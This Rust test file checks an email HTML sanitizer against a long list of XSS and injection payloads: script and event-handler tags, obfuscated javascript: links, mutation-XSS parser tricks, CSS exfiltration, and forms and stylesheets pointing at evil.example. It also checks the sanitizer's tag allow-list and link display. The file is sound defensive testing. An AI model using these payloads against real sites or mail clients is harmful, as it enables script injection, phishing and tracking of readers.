//! A corpus of attacks by HTML, and what may be left of them: nothing.

use std::collections::{HashMap, HashSet};

use team_inbox::mail::{CleanHtml, InlineImage, clean};

const TAGS: &[&str] = &[
    "a",
    "abbr",
    "acronym",
    "address",
    "article",
    "aside",
    "b",
    "bdi",
    "big",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "font",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "section",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
];
const ATTRIBUTES: &[&str] = &[
    "align",
    "alt",
    "bgcolor",
    "border",
    "cellpadding",
    "cellspacing",
    "color",
    "colspan",
    "dir",
    "face",
    "headers",
    "height",
    "href",
    "lang",
    "noshade",
    "nowrap",
    "open",
    "rel",
    "reversed",
    "rowspan",
    "rules",
    "scope",
    "size",
    "span",
    "src",
    "start",
    "style",
    "summary",
    "target",
    "title",
    "type",
    "valign",
    "value",
    "width",
];

fn no_images(_: &str) -> Option<InlineImage> {
    None
}

fn cleaned(html: &str) -> CleanHtml {
    clean(html, &mut no_images)
}

/// Checks every tag, attribute and address of cleaned HTML against what may be there.
///
/// Cleaned HTML is plain: `<` only ever starts a tag, and values stand in double quotes.
pub fn assert_safe(html: &str, source: &str) {
    for tag in html.split('<').skip(1) {
        let end = tag_end(tag).unwrap_or_else(|| panic!("an open tag in {html:?} from {source:?}"));
        let tag = tag[..end].trim_start_matches('/');
        let (name, mut attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        assert!(TAGS.contains(&name), "<{name}> in {html:?} from {source:?}");
        while !attributes.trim().is_empty() {
            let (name, rest) = attributes.trim_start().split_once("=\"").unwrap_or((attributes.trim(), "\""));
            let (value, rest) = rest.split_once('"').expect("values are quoted");
            assert!(ATTRIBUTES.contains(&name), "{name}={value:?} in {html:?} from {source:?}");
            assert_value(name, &value.to_lowercase(), source);
            attributes = rest;
        }
    }
}

fn tag_end(tag: &str) -> Option<usize> {
    let mut quoted = false;
    tag.find(|it| {
        quoted ^= it == '"';
        it == '>' && !quoted
    })
}

fn assert_value(name: &str, value: &str, source: &str) {
    match name {
        "href" => {
            let fine = ["http://", "https://", "mailto:", "tel:"].iter().any(|it| value.starts_with(it));
            assert!(fine, "href {value:?} from {source:?}");
        }
        "src" => assert!(
            value.starts_with("data:image/") && !value.contains("svg"),
            "src {value:?} from {source:?}"
        ),
        "style" => {
            for bad in ["url", "expression", "import", "position", "\\", "behavior", "binding", "var(", "/*"]
            {
                assert!(!value.contains(bad), "style {value:?} from {source:?}");
            }
        }
        _ => {}
    }
}

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)' onfocus=alert(1) tabindex=0>x</div>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><caption><svg><title><style></title></svg><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template><template shadowrootmode=open><p>x</template>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror=alert(1)>\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java&#9;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"vbscript:x\">x</a><a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"blob:https://example.org/1\">x</a><a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"//evil.example\">x</a><a href=\"/settings\">x</a><a href=\"#top\">x</a><a href=\"cid:1\">x</a>",
    "<a href=\"https://x.org\" ping=\"https://evil.example\" download target=_top onclick=alert(1)>x</a>",
    "<a href=\"https://x.org\" title=\"Open your-bank.example\" rel=opener>x</a>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\"><img src=\"data:text/html;base64,PHA+\">",
    "<img src=\"data:image/png;base64,a\\\" onerror=alert(1) x=\\\"\">",
    "<img src='https://evil.example/pixel.gif' srcset='https://evil.example/2x 2x' style='background:url(https://e)'>",
    "<img src=//evil.example/x><img src=/x><img src=javascript:alert(1)><img lowsrc=https://e dynsrc=https://e>",
    "<picture><source srcset=https://evil.example/x><img src=https://evil.example/y></picture>",
    "<video src=https://evil.example poster=https://evil.example></video><audio src=https://evil.example></audio>",
    "<table background=https://evil.example/x><td background=https://evil.example/x>x",
    "<div style=\"background-image:url(https://evil.example/x)\">x</div>",
    "<div style=\"background:u\\72 l(https://evil.example/x)\">x</div>",
    "<div style=\"background:url(data:image/png;base64,x);list-style:url(https://evil.example/x)\">x</div>",
    "<div style=\"width:expression(alert(1));behavior:url(x);-moz-binding:url(x)\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;z-index:9999;width:100%;height:100%\">Sign in again</div>",
    "<div style=\"color:red;/*\">*/position:fixed</div>",
    "<div style='color:red&quot;onclick=&quot;alert(1)'>x</div>",
    "<div style='font-family:\"><script>alert(1)</script>\"'>x</div>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><meta charset=utf-7>",
    "<base href=https://evil.example/><base target=_parent>",
    "<form action=https://evil.example><input name=password type=password><button formaction=x>x</button></form>",
    "<isindex action=javascript:alert(1) type=image><keygen autofocus onfocus=alert(1)>",
    "<iframe src=https://evil.example></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)><applet code=x></applet>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee><dialog open>x</dialog><portal src=https://evil.example></portal>",
    "<p id=getElementById name=body class=toolbar>clobber</p><a name=attributes id=x>x</a>",
    "<x-custom is=y onclick=alert(1)>x</x-custom><p contenteditable autofocus onfocus=alert(1)>x</p>",
    "<!--><img src=x onerror=alert(1)>--><!--!><script>alert(1)</script>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]><?xml <img src=x onerror=alert(1)>?>",
    "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=alert(1)//\"></svg>",
    "<a title=\"<img src=x onerror=alert(1)>\" href=\"https://x.org/?<script>\">x</a>",
    "</blockquote></details></body></html><script>alert(1)</script>",
    "<blockquote cite=javascript:alert(1)>x<blockquote>y</details><details>",
    "<plaintext><script>alert(1)</script>",
    "<p \0 onclick=alert(1)>x\0<scr\0ipt>alert(1)</scr\0ipt>",
    "<a href=\"https://x.org/\u{202e}gpj.exe\">\u{202e}exe.jpg</a>",
    "<img alt='\"><script>alert(1)</script>' src=https://evil.example/x>",
    "<a href='mailto:x@y?subject=\"><script>alert(1)</script>'>x</a>",
    "<",
    "<a",
    "<a href=\"",
    "<!--",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
];

#[test]
fn nothing_of_an_attack_survives() {
    for attack in ATTACKS {
        let html = cleaned(attack).html;
        assert_safe(&html, attack);
        let lower = html.to_lowercase();
        for bad in ["evil.example\"", "javascript:", "vbscript:", "data:text", "srcset", "@import"] {
            assert!(!lower.contains(bad) || !lower.contains('<'), "{bad} in {html:?} from {attack:?}");
        }
    }
}

#[test]
fn attacks_side_by_side_help_each_other_no_better() {
    let all = ATTACKS.concat();
    assert_safe(&cleaned(&all).html, "all attacks");
    for (one, other) in ATTACKS.iter().zip(ATTACKS.iter().rev()) {
        let pair = format!("<div>{one}<blockquote>{other}</blockquote>{one}");
        assert_safe(&cleaned(&pair).html, &pair);
    }
}

#[test]
fn what_was_cleaned_is_read_by_a_browser_as_it_was_meant() {
    // Parsing the result once more must not make anything of it that was not there.
    for attack in ATTACKS {
        let once = cleaned(attack).html;
        let tags: HashSet<&str> = TAGS.iter().copied().collect();
        let attributes: HashSet<&str> = ATTRIBUTES.iter().copied().collect();
        let mut lenient = ammonia::Builder::empty();
        lenient.tags(tags).generic_attributes(attributes).tag_attributes(HashMap::default()).link_rel(None);
        lenient.url_schemes(["http", "https", "mailto", "tel", "data"].into()).strip_comments(false);
        // Quotation marks need no escape in text; everything else must be the same.
        let plain = |it: &str| it.replace("&quot;", "\"").replace("&#39;", "'");
        assert_eq!(plain(&lenient.clean(&once).to_string()), plain(&once), "from {attack:?}");
    }
}

#[test]
fn remote_images_are_counted_and_described() {
    let page = cleaned("<p>a<img src=https://x.org/a.png alt='A <b>'><img src=http://x.org/b.png></p>");
    assert_eq!(page.remote_images, 2);
    assert!(!page.html.contains("<img") && page.html.contains("A &lt;b&gt;"));
}

#[test]
fn images_of_the_message_are_shown_if_they_are_pictures() {
    let mut image = |id: &str| {
        let media = if id == "drawing" { "image/svg+xml" } else { "image/png" };
        (id != "gone").then(|| InlineImage { media: media.into(), bytes: b"hello".to_vec() })
    };
    let html = "<img src='cid:logo' width=10><img src='cid:drawing' alt=D><img src=cid:gone>\
        <img src='data:image/GIF;base64,R0lG'>";
    let page = clean(html, &mut image);
    assert_safe(&page.html, html);
    assert_eq!(page.html.matches("<img").count(), 2);
    assert!(page.html.contains("src=\"data:image/png;base64,aGVsbG8=\""));
    assert!(page.html.contains("src=\"data:image/gif;base64,R0lG\""));
    assert_eq!(page.remote_images, 0);
}

#[test]
fn links_show_where_they_lead() {
    for (given, wanted) in [
        (
            "<a href='https://x.org/a'>here</a>",
            "title=\"Open x.org\" target=\"_blank\" rel=\"noopener noreferrer\">here</a>",
        ),
        (
            "<a href='https://evil.org'>https://bank.com/login</a>",
            "</a><span style=\"opacity:.75\"> (evil.org)</span>",
        ),
        ("<a href='https://bank.com@evil.org/'>x</a>", "title=\"Open evil.org\""),
        ("<a href='https://xn--80ak6aa92e.com'>x</a>", "title=\"Open xn--80ak6aa92e.com\""),
        ("<a href='https://аррӏе.com'>x</a>", "title=\"Open xn--80ak6aa92e.com\""),
        ("<a href='https://münchen.example'>x</a>", "title=\"Open münchen.example\""),
        ("<a href='mailto:ann@x.org'>x</a>", "title=\"Write to ann@x.org\""),
        ("<a href='https://x.org' title='Open bank.com'>x</a>", "title=\"Open x.org\""),
    ] {
        let html = cleaned(given).html;
        assert!(html.contains(wanted), "{html}");
    }
    assert!(!cleaned("<a href='https://www.bank.com/x'>bank.com</a>").html.contains("span"));
    assert!(!cleaned("<a>no link</a>").html.contains("_blank"));
}

#[test]
fn quotations_fold_unless_they_are_all_there_is() {
    let html = cleaned("<p>Yes</p><blockquote>one<blockquote>two</blockquote></blockquote>").html;
    assert_eq!((html.matches("<details").count(), html.matches("</details>").count()), (1, 1));
    assert!(!html.contains("<details open"));
    assert!(cleaned("<blockquote>only</blockquote>").html.contains("<details open"));
}

#[test]
fn only_the_last_of_several_quotations_folds() {
    let html =
        cleaned("<blockquote>Colour?</blockquote><p>Blue.</p><blockquote>Size?</blockquote><p>Large.</p>")
            .html;
    assert_eq!((html.matches("<details").count(), html.matches("</details>").count()), (1, 1));
    assert!(
        html.find("Colour?") < html.find("<details") && html.find("<details") < html.find("Size?"),
        "{html}"
    );
    assert_safe(&html, "several quotations");
}

#[test]
fn what_outlook_writes_below_an_answer_folds_with_all_that_follows() {
    let line = "<div style='border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm'>";
    let old = format!(
        "<div><p>Yes.</p><div>{line}<p><b>From:</b> Ann</p></div></div><p>Well?</p><p>Ann</p></div><p>after</p>"
    );
    let web = "<p>Yes.</p><hr style='display:inline-block;width:98%'><div><b>From:</b> Ann</div><p>Well?</p>"
        .to_owned();
    for (source, outside) in [(old, "after"), (web, "Yes.")] {
        let html = cleaned(&source).html;
        assert_safe(&html, &source);
        let inside = html.split("<details").nth(1).and_then(|it| it.split("</details>").next()).unwrap();
        assert!(inside.contains("From:") && !inside.contains(outside), "{html}");
        assert!(!html.contains("<details open"), "{html}");
    }
    let web = cleaned("<p>Yes.</p><hr style='display:inline-block;width:98%'><p>Well?</p>").html;
    assert!(web.ends_with("<p>Well?</p></details>"), "{web}");
}

#[test]
fn no_text_is_lost_on_its_paper() {
    let white = |html: &str| {
        html.contains("color:#fff") || html.contains("color:white") || html.contains("color=\"#ffffff\"")
    };
    for (source, keeps_white) in [
        ("<table><tr><td style='background:#123456;color:#fff'>x</td></tr></table>", true),
        ("<div style='background:url(https://x.example/a.png) #123;color:#fff'>x</div>", true),
        ("<div style='background:linear-gradient(90deg,#123,#456);color:white'>x</div>", true),
        ("<body bgcolor='#102030' text='#ffffff'><p style='color:#fff'>x</p>", true),
        ("<body style='background-color:#000'><p style='color:#fff'>x</p></body>", true),
        (
            "<style>.dark{background:#111} .dark p{x:y} .w{color:#fff}</style><div class=dark><p class=w>x</p></div>",
            true,
        ),
        ("<style>body{background:#000}</style><body><p style='color:#fff'>x</p>", true),
        ("<table bgcolor=black><tr><td><font color='#ffffff'>x</font></td></tr></table>", true),
        ("<div style='background:url(https://x.example/a.png);color:#fff'>x</div>", false),
        ("<div style='color:#fff'>x</div>", false),
        ("<font color='#ffffff'>x</font>", false),
        (
            "<div style='background:#000'><div style='background:#fefefe'><p style='color:white'>x</p></div></div>",
            false,
        ),
    ] {
        let html = cleaned(source).html;
        assert_safe(&html, source);
        assert_eq!(white(&html), keeps_white, "{source}: {html}");
    }
}

#[test]
fn a_link_without_words_says_where_it_leads() {
    let html = cleaned("<a href='https://x.example/a'><img src='https://x.example/b.png'></a>").html;
    assert!(html.contains(">x.example</a>"), "{html}");
    let html = cleaned("<a href='mailto:kim@x.example'></a>").html;
    assert!(html.contains(">kim@x.example</a>"), "{html}");
    let named =
        cleaned("<a href='https://x.example/a'><img src='https://x.example/b.png' alt='Our shop'></a>").html;
    assert!(named.contains("Our shop") && !named.contains(">x.example</a>"), "{named}");
}

#[test]
fn a_page_is_read_the_way_it_says() {
    let html = cleaned("<html dir=rtl><body><p>\u{5e9}\u{5dc}\u{5d5}\u{5dd}</p></body></html>").html;
    assert!(html.starts_with("<div dir=\"rtl\">") && html.ends_with("</div>"), "{html}");
    assert!(cleaned("<p dir=rtl>x</p>").html.contains("dir=\"rtl\""));
    assert_safe(
        &cleaned("<body dir='rtl\"><script>' style='background:#123;x:expression(1)'>x").html,
        "a hostile body",
    );
}

#[test]
fn room_is_kept_for_pictures_that_are_not_loaded() {
    let html = cleaned("<img src='https://x.example/a.png' width=300 height='80px' alt='A <b>'>").html;
    assert!(html.contains("width:300px;height:80px") && html.contains("A &lt;b&gt;"), "{html}");
    assert_safe(&html, "a picture");
    assert_eq!(cleaned("<img src='https://x.example/p.gif' width=1 height=1>").html, "");
}

#[test]
fn paragraphs_of_outlook_stand_close() {
    let sheet = "<style>p.MsoNormal, li.MsoNormal {margin:0cm; font-size:11.0pt}</style>";
    for source in [format!("{sheet}<p class=MsoNormal>x</p>"), "<p class=\"MsoNormal\">x</p>".to_owned()] {
        let html = cleaned(&source).html;
        assert!(html.contains("margin:0"), "{html}");
    }
}

#[test]
fn what_is_too_large_or_deep_becomes_text() {
    for bomb in [
        "<div>".repeat(50_000) + "deep",
        "<b><i><u><font color=red>".repeat(20_000) + "deep",
        format!("<p>deep</p>{}", "<p>x".repeat(2_000_000)),
        (0..400).map(|it| format!("<b id={it}>")).collect::<Vec<_>>().concat() + &"<p>deep".repeat(100_000),
    ] {
        let page = cleaned(&bomb);
        assert!(page.as_text && page.html.contains("deep"));
        assert_safe(&page.html, "a bomb");
    }
}

#[test]
fn an_honest_newsletter_keeps_its_looks() {
    let html = "<table width=\"600\" bgcolor=\"#ffffff\"><tr><td style=\"padding: 8px; color: #333333\" align=center>\
        <h1>News</h1><p>Hello <strong>you</strong>,<br>see <a href=\"https://x.org/\">x.org</a></p></td></tr></table>";
    let page = cleaned(html);
    for kept in
        ["width=\"600\"", "bgcolor=\"#ffffff\"", "color:#333333", "align=\"center\"", "<strong>you</strong>"]
    {
        assert!(page.html.contains(kept), "{kept} in {}", page.html);
    }
}
